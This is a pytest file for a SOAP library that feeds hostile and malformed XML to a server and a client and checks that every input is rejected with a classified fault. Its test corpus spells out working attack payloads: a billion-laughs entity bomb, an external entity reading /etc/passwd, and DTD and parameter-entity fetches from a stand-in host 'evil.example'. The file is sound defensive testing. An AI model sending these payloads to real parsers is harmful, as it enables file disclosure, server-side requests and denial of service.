"""Hostile and malformed XML on both sides of a SOAP call.

Whatever arrives — a DTD, an entity bomb, an external entity, an unbound
prefix, a truncated or mis-nested document, text that is not UTF-8 — the
server must answer with a ``Portal.InvalidRequest`` fault and the client
must raise a ``Portal.Encoding`` error.  Never a crash, never an
unclassified exception, never an expanded entity.
"""

import xml.etree.ElementTree as ET

import pytest

from repro.faults import PortalError
from repro.soap.client import SoapClient
from repro.soap.encoding import SoapEncodingError
from repro.soap.message import SoapEnvelope, SoapFault, request_envelope
from repro.soap.server import SoapService
from repro.transport.http import HttpRequest, HttpResponse, parse_url
from repro.transport.server import HttpServer

VALID = request_envelope("urn:echo", "echo", ["hello"]).serialize()

BILLION_LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(
        f'<!ENTITY lol{i} "{("&lol%s;" % (i - 1 or "")) * 10}">'
        for i in range(1, 10)
    )
    + "]><lolz>&lol9;</lolz>"
)

CORPUS = {
    "empty": "",
    "not xml": "this is not xml",
    "internal dtd": '<!DOCTYPE x [<!ELEMENT x ANY>]><x/>',
    "billion laughs": BILLION_LAUGHS,
    "external entity": (
        '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
    ),
    "external dtd": '<!DOCTYPE x SYSTEM "http://evil.example/x.dtd"><x/>',
    "parameter entity": (
        '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/p">%p;]><x/>'
    ),
    "undefined entity": VALID.replace("hello", "&bogus;"),
    "unbound prefix": VALID.replace(
        ' xmlns:ns0="http://schemas.xmlsoap.org/soap/envelope/"', ""
    ),
    "mismatched tags": VALID.replace("</ns1:echo>", "</ns1:ohce>"),
    "two roots": VALID + "<again/>",
    "non-char reference": VALID.replace("hello", "&#0;"),
    "raw control character": VALID.replace("hello", "\x01"),
    "lone surrogate": VALID.replace("hello", "\udcff"),
    "latin-1 bytes as text": "\xff\xfe" + VALID,
    "not an envelope": "<a/>",
    "empty body": VALID.replace(VALID[VALID.index("<ns1:echo"):
                                      VALID.index("</ns0:Body>")], ""),
}
CORPUS.update(
    {f"truncated at {cut}": VALID[:cut] for cut in (1, 20, 60, len(VALID) - 1)}
)


def test_the_valid_envelope_really_is_valid():
    assert SoapEnvelope.parse(VALID).body.tag.local == "echo"


@pytest.fixture
def echo(network):
    service = SoapService("echo", "urn:echo")
    service.expose(lambda text: text, name="echo")
    url = service.mount(HttpServer("echo.example", network))
    return service, url


@pytest.mark.parametrize("name", sorted(CORPUS))
def test_server_answers_invalid_request(echo, name):
    service, url = echo
    response = service.handle_http(
        HttpRequest("POST", parse_url(url), {}, CORPUS[name])
    )
    assert response.status == 500
    ET.fromstring(response.body)  # the fault itself is conformant XML
    fault = SoapFault.from_xml(SoapEnvelope.parse(response.body).body)
    assert fault.faultcode == "Client"
    assert fault.detail["code"] == "Portal.InvalidRequest"
    assert "lol" not in response.body and "root:" not in response.body
    assert service.calls_served == 0


@pytest.mark.parametrize("name", sorted(CORPUS))
def test_client_raises_classified_error(network, name):
    server = HttpServer("hostile.example", network)
    server.mount("/soap", lambda request: HttpResponse(
        200, {"Content-Type": "text/xml"}, CORPUS[name]
    ))
    client = SoapClient(network, "http://hostile.example/soap", "urn:echo")
    with pytest.raises(PortalError) as info:
        client.call("echo", "hello")
    assert info.value.code == "Portal.Encoding"
    assert info.value.detail["endpoint"] == "http://hostile.example/soap"


@pytest.mark.parametrize("bad", ["\x00", "\x08", "\udcff", "\ufffe"])
def test_non_xml_characters_fail_classified_on_both_paths(network, echo, bad):
    service, url = echo
    client = SoapClient(network, url, "urn:echo")
    # request path: refused before anything reaches the wire
    with pytest.raises(SoapEncodingError):
        client.call("echo", f"a{bad}b")
    assert service.calls_served == 0
    # response path: the server's result cannot be serialized either
    service.expose(lambda: f"a{bad}b", name="emit")
    with pytest.raises(SoapEncodingError) as info:
        client.call("emit")
    assert info.value.code == "Portal.Encoding"
